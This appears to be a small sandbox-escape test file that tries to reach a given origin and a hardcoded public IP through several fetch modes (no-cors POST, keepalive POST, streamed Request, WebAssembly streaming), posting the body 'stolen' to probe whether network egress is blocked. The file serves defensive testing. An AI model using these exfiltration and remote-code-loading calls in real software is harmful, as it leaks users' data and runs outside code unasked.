// goal: send data to a server with fetch, in every mode and method
const { origin } = attack.given;

await attack.reach("GET", () => fetch(`${origin}/get`).then((r) => r.text()));
await attack.reach("POST without asking", () =>
  fetch(`${origin}/post`, { method: "POST", mode: "no-cors", body: "stolen" }).then((r) => r.type),
);
await attack.reach("keepalive", () =>
  fetch(`${origin}/keep`, { method: "POST", keepalive: true, body: "stolen" }).then((r) => r.type),
);
await attack.reach("a stream", () => fetch(new Request(`${origin}/request`)).then((r) => r.text()));
await attack.reach("WebAssembly", () => WebAssembly.compileStreaming(fetch(`${origin}/module.wasm`)));
await attack.reach("the open internet", () => fetch("https://93.184.215.14/").then((r) => r.status));

export const step = (params: unknown) => params;
